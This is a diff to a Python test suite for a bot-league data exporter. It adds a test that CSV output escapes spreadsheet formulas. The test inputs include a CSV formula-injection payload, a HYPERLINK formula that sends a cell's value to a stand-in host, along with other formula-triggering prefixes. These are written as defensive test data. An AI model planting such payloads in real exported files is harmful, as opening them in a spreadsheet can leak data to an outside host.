@@ -50,7 +50,7 @@ def typed(name: str, text: str) -> Any:
     if not text:
         return None
     if COLUMNS[name] == "string":
-        return text
+        return text.removeprefix("'")  # before what a spreadsheet would compute
     return float(text) if COLUMNS[name] == "float64" else int(text)
 
 
@@ -153,6 +153,17 @@ def test_forfeits_have_their_reason(tmp_path: Path, run: Run) -> None:
     assert (rows["ann"]["ending"], rows["ann"]["reason"]) == ("crashed", "IndexError: b.py:5")
     assert (rows["cem"]["ending"], rows["cem"]["reason"]) == ("finished", None)
     assert {row["unrated"] for row in rows.values()} == {1}
+
+
+@pytest.mark.parametrize("reason", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@sum", "\t=1", "\r=1"])
+def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run, reason: str) -> None:
+    """What a bot says begins with a quote where a spreadsheet would compute it; numbers stay numbers."""
+    league = League(BOTS, rounds=1, ending=lambda _, bot: Ending.CRASHED, reason=reason)
+    export(run, league.store(tmp_path / "games.sqlite"), tmp_path / "out", "csv")
+    with (tmp_path / "out").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert {row["reason"] for row in rows} == {f"'{reason}"}
+    assert all(float(row["hearts"]) < 100 for row in rows)
 
 
 @pytest.mark.parametrize("file_format", TABLES)
